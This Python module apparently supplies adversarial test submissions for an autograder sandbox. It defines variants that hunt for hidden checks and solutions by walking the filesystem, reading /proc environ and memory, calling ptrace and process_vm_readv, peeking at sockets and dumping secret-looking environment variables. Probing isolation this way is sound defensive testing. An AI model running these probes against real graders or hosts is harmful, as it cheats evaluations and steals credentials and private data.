"""Submissions that want to learn the hidden checks, their inputs or what is expected.

What they find they print as LEAK, in a cell whose output is theirs to see. What they look
for they write as a pattern that does not match itself.
"""

from __future__ import annotations

from submissions.variant import Variant

_SEEK = """
import os, re, sys
MARK = re.compile(b"only-graders[-]read-this|never-shown[-]to-anyone")
def told(what, text):
    if isinstance(text, str):
        text = text.encode("utf-8", "replace")
    for found in MARK.finditer(text):
        print("LEAK", what, text[max(0, found.start() - 20):][:200])
looked = 0
"""

_FILES = """
names = re.compile(r"everyday|solutions|gradebook|submitted|autograded|records|\\.course|nbgrader_")
skip = re.compile(r"^/(usr|lib\\w*|sys|dev|bin|sbin)\\b|(site|dist)-packages|/lib/python3")
for folder, folders, found in os.walk("/"):
    if skip.search(folder):
        folders.clear()
        continue
    for name in found + folders:
        looked += 1
        path = os.path.join(folder, name)
        if names.search(name) and not path.startswith("/proc"):
            print("LEAK", path)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 10**6:
                told(path, open(path, "rb").read())
        except OSError:
            pass
print("looked at", looked)
"""
_KNOWN_PATHS = """
import glob
for root in ("@ROOT@", ".", "..", "../..", os.path.expanduser("~")):
    for pattern in ("*.ipynb", "*/*.ipynb", "solutions/*", "source/*", "submitted/*/*",
                    "gradebook.db", "_build/*", "*.csv"):
        looked += 1
        for path in glob.glob(os.path.join(root, pattern)):
            print("LEAK", path)
    try:
        told(root, open(os.path.join(root, "solutions", "everyday.md")).read())
        print("LEAK", root)
    except OSError:
        pass
print("looked at", looked)
"""
_MODULES = """
for name in ("checker", "verdict", "session", "record", "batch", "rebuild", "worker", "gradebook"):
    looked += 1
    try:
        module = __import__("course_lib.grading." + name, fromlist=["x"])
        print("LEAK", name)
    except ImportError:
        pass
import course_lib
for folder in course_lib.__path__:
    for path, _, found in os.walk(folder):
        for name in found:
            looked += 1
            told(name, open(os.path.join(path, name), "rb").read())
from pathlib import Path
for parent in Path(course_lib.__path__[0]).parents:
    for name in ("solutions", "tests", "exercises", ".git", "_build", "gradebook.db"):
        if (parent / name).exists():
            print("LEAK", parent / name)
print("looked at", looked)
"""
_NOTEBOOKS = [
    Variant("reads-notebook", name, first=_SEEK + code, prints="looked at")
    for name, code in (("walks", _FILES), ("knows the paths", _KNOWN_PATHS), ("imports", _MODULES))
]

_PROC = """
for pid in ["self", "thread-self", *map(str, range(1, 60)), str(os.getppid())]:
    for name in ("cmdline", "environ", "maps", "mem", "stack", "syscall", "fdinfo", "status"):
        looked += 1
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read(1 << 20)
        except OSError:
            continue
        if text:  # the sandbox has one of them, empty
            print("LEAK", pid, name, text[:80])
    try:
        print("LEAK", os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        pass
print("looked at", looked)
"""
_PTRACE = """
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
for pid in [os.getppid(), *range(1, 60)]:
    if pid == os.getpid():
        continue
    looked += 1
    if libc.ptrace(16, pid, None, None) == 0:
        print("LEAK ptrace", pid)
        libc.ptrace(17, pid, None, None)
    local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(looked), 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("LEAK memory of", pid)
    try:
        fd = os.pidfd_open(pid)
        for number in range(8):
            if libc.syscall(438, fd, number, 0) >= 0:
                print("LEAK descriptor", pid, number)
    except OSError:
        pass
print("looked at", looked)
"""
_MEMORY = """
import ctypes, gc
def texts(value, depth=3):
    if isinstance(value, str | bytes):
        yield value
    elif depth and isinstance(value, dict):
        for part in list(value.items()):
            yield from texts(part, depth - 1)
    elif depth and isinstance(value, list | tuple | set):
        for part in list(value)[:2000]:
            yield from texts(part, depth - 1)
def look():
    global looked
    for thing in gc.get_objects():
        looked += 1
        for text in texts(thing, 1):
            told("gc", text)
        if type(thing).__name__ in ("Graded", "CheckResult", "Exercise"):
            print("LEAK", type(thing))
    for frame in sys._current_frames().values():
        while frame:
            looked += 1
            for text in texts(dict(frame.f_locals)):
                told("frame", text)
            frame = frame.f_back
"""
_MEMORY_THEN = """
def mean(numbers):
    look()
    return sum(numbers) / len(numbers)
"""
_MAPS = """
import ctypes, io
data = bytes(1000)
libc = ctypes.CDLL(None, use_errno=True)
pipe = os.pipe()
os.set_blocking(pipe[1], False)
page, start = 4096, (id(data) >> 30) << 30
for address in range(start, start + (1 << 28), page):  # write() says which pages are there
    looked += 1
    if libc.write(pipe[1], ctypes.c_void_p(address), page) == page:
        text = os.read(pipe[0], page)
        told(hex(address), text)
print("looked at", looked)
"""
_SOCKET = """
import array, socket, struct
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    looked += 1
    try:
        link = socket.socket(fileno=os.dup(fd))
        link.setblocking(False)
        data, *_ = link.recvmsg(1 << 16, 1024, socket.MSG_PEEK)
        told("peek", data)
    except OSError:
        pass
print("looked at", looked, "descriptors")
"""
_ENVIRONMENT = """
for name, value in os.environ.items():
    looked += 1
    if re.search(r"TERM$|COURSE|SECRET|TOKEN|KEY|GRAD|NBGRADER", name) or "spring" in value:
        print("LEAK", name, value)
libc = __import__("ctypes").CDLL(None)
libc.getenv.restype = __import__("ctypes").c_char_p
if libc.getenv(b"COURSE_TERM"):
    print("LEAK", libc.getenv(b"COURSE_TERM"))
from course_lib.checks import term_seed
import hashlib
if term_seed("x") == int.from_bytes(hashlib.sha256(b"spring/x").digest()[:4], "big") >> 1:
    print("LEAK the seed")
print("looked at", looked)
"""
_SIBLINGS = """
for folder in ("/tmp", "/work", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    looked += 1
    print("LEAK" if any("score" in name or "left-by" in name for name in names) else "", folder)
for number in range(200):
    try:
        os.kill(number + 2, 0)
        if number + 2 != os.getpid():
            print("another process", number + 2)
    except OSError:
        pass
print("looked at", looked)
for folder in ("/tmp", "/work", "/dev/shm", os.path.expanduser("~"), "."):
    try:
        open(os.path.join(folder, "left-by-a-sibling"), "w").write("answers")
    except OSError:
        pass
"""
_TRACES = """
import inspect, linecache, threading
held = []
def trace(frame, event, arg):
    texts = [value for value in frame.f_locals.values() if type(value) in (str, bytes, list)]
    held.append((frame.f_code.co_filename, frame.f_code.co_name, str(texts)[:500]))
def mean(numbers):
    frame = sys._getframe()
    while frame:
        held.append((frame.f_code.co_filename, frame.f_code.co_name, str(frame.f_locals)[:2000]))
        frame = frame.f_back
    for lines in list(linecache.cache.values()):
        held.append(("cache", "", str(lines)))
    return sum(numbers) / len(numbers)
sys.setprofile(trace)
threading.setprofile(trace)
"""
_TRACES_THEN = """
sys.setprofile(None)
looked = len(held)
for where, name, text in held:
    told(where, text)
print("looked at", looked)
"""
_PROCESSES = [
    Variant("proc-and-ptrace", name, first=_SEEK + code, prints="looked at", extra=number > 1)
    for number, (name, code) in enumerate(
        {
            "proc": _PROC,
            "ptrace": _PTRACE,
            "its own memory": _MAPS,
            "its descriptors": _SOCKET,
            "its environment": _ENVIRONMENT,
            "what others left": _SIBLINGS,
            "what others left, again": _SIBLINGS,
        }.items()
    )
] + [
    Variant(
        "proc-and-ptrace",
        "all objects while it is called",
        first=_SEEK + _MEMORY,
        answers={"mean": _MEMORY_THEN},
        last="look()\nprint('looked at', looked)",
        prints="looked at",
        extra=True,
    ),
    Variant(
        "proc-and-ptrace",
        "frames and profiles",
        first=_SEEK,
        answers={"mean": _TRACES},
        last=_TRACES_THEN,
        prints="looked at",
        extra=True,
    ),
]

VARIANTS = _NOTEBOOKS + _PROCESSES
